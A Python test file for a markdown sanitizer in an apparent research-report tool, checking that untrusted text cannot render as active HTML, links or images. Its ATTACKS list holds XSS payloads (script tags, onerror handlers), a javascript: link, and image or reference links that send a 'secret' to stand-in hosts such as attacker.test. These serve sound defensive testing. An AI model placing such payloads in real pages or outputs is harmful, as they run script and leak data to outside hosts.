"""What strangers wrote must not act in a rendered report; judged by a CommonMark renderer."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from deep_research.text.inert_markdown import as_read, keep_literal, literal_marks, make_inert

_RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
_ACTING = {"html_inline", "html_block", "link_open", "image"}

ATTACKS = (
    "`a <img src=x>\\`` <b x>",
    "`<d>\\``\\](a <b x>[<d>>",
    "<script>alert(1)</script>",
    "Text <img src=http://attacker.test/x.png onerror=alert(1)> text",
    "![chart](http://attacker.test/?q=secret)",
    "![chart][one]\n\n[one]: http://attacker.test/x.png",
    "[your bank](http://attacker.test/) and [two]\n\n[two]: <http://attacker.test/>",
    "[a\nb]: http://attacker.test/\n\n[a b]",
    "<!DOCTYPE html><?php echo 1 ?>",
    "`one | two <b>` | <i>x</i>\n--- | ---\n`a | <b>b</b>` | c",
    "an ` unmatched tick\nand `<script>alert(1)</script>` here",
    "> ```\n<script>alert(1)</script>",
    "1. x\n   ```\n<script>alert(1)</script>\n```\n<b>\n```",
    "```\ncode\n``` \n<script>alert(1)</script>",
    "\\![x](http://attacker.test) \\<b> \\\\<b>",
    "&lt;b> [x]&#40;http://attacker.test&#41;",
    "[![x](http://a.test/y.png)](javascript:alert(1))",
)


def acting(markdown: str) -> list[str]:
    """The kinds of tokens in a rendering that load, lead or act."""
    tokens = _RENDERER.parse(markdown)
    return [t.type for token in tokens for t in (token, *(token.children or ())) if t.type in _ACTING]


def assert_inert(text: str) -> None:
    assert acting(make_inert(text)) == []
    assert make_inert(make_inert(text)) == make_inert(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_it_acts(attack: str) -> None:
    assert_inert(attack)


@given(st.text(alphabet="<b>/!-[]()`~|\\:\n> aé1.\r&", max_size=60))
def test_nothing_acts_in_whatever_is_made_of_these_characters(text: str) -> None:
    assert_inert(text)


_LINES = st.sampled_from(
    ("", "text", "- item", "  10. item", "> said", "```", "   ```yaml", "   ```", "   <b>", "    ```", "     ```", "     <b>",
     "      <b>", "   ````", "<b>", "   - ```", "  ![x](y)", "    ~~~", "a | b", "--|--", "   `", "\t```", "   ``` <b>")
)  # fmt: skip


@given(st.lists(_LINES, max_size=14))
def test_nothing_acts_where_blocks_of_code_stand_in_others(lines: list[str]) -> None:
    assert_inert("\n".join(lines))


def test_what_is_to_be_filled_in_is_no_tag() -> None:
    assert make_inert("Wait <d> days, `<d>` or <number of days>.") == "Wait \\<d> days, `<d>` or \\<number of days>."
    assert make_inert("`a`<d> <a href=x> <d>`") == "`a`\\<d> \\<a href=x> \\<d>\\`"


def test_a_colon_behind_a_citation_is_one() -> None:
    for text in ("It stays as it is [7]: old ones remain.", "그대로 둔다[7]: 옛것은 남는다."):
        assert make_inert(text) == text
    assert make_inert("[7]: http://a.test").startswith("[7]\\:")


def test_structure_and_code_stay() -> None:
    text = (
        "# Title\n\n> *quoted* **bold** a < b, 3 <4\n\n| a | b |\n|---|---|\n| `List<String>` | 1 |\n\n"
        "```\n<html>![x](y)\n```\n\n- item `a[i](x)` [1][2]\n"
        "3. Set it:\n\n   ```yaml\n   a: <b>\n\n     - `c`\n   ```\n   then look.\n"
    )
    assert make_inert(text) == text


def test_a_bar_in_code_ends_it_in_a_row_alone() -> None:
    said = "2. Type `ls | grep x` and look.\n\nThen `a | b`, or `c`."
    assert make_inert(said) == said
    row = "| `a | b` |\n|---|---|\n| `c | d` |"
    assert "`a | b`" not in make_inert(row).replace("\\`", "'")


def test_a_code_block_that_is_not_closed_ends_with_the_text() -> None:
    assert make_inert("```\n<b>") == "```\n<b>\n```"


@pytest.mark.parametrize("fence", ["~~~|a|", "```|a|"])
def test_what_some_take_for_a_fence_and_others_for_a_table_is_neither(fence: str) -> None:
    inert = make_inert(f"{fence}\n|-|\n|[x](http://evil.example/)|\n")
    assert "](http" not in inert
    assert not inert.startswith(("~~~", "```"))


@pytest.mark.parametrize(
    ("text", "places"),
    [("files *.log", [6]), ("the __init__ file", [4, 5, 10, 11]), ("a ** b", [])],
)
def test_a_sign_that_stands_so_in_a_source_is_kept_and_the_writer_s_own_emphasis_stays(
    text: str, places: list[int]
) -> None:
    assert list(literal_marks(text, f"It says {text}.")) == places
    assert list(literal_marks("see **Note** here", f"It says {text}.")) == []


@pytest.mark.parametrize(
    "quoted",
    [
        "<button onClick={() => f()}>+1</button>",
        "{/*overview*/}",
        "*glob* and __init__",
        "a <z@b.test> wrote",
    ],
)
def test_a_quotation_is_read_as_it_stands(quoted: str) -> None:
    written = make_inert(keep_literal(quoted))
    assert as_read(written) == quoted
    shown = _RENDERER.parse(written)[1].children or []
    assert "".join(token.content for token in shown) == quoted


def test_a_backslash_in_code_stays() -> None:
    assert as_read("\\<b> `\\<b>`\n\n```\n\\*\n```") == "<b> `\\<b>`\n\n```\n\\*\n```"
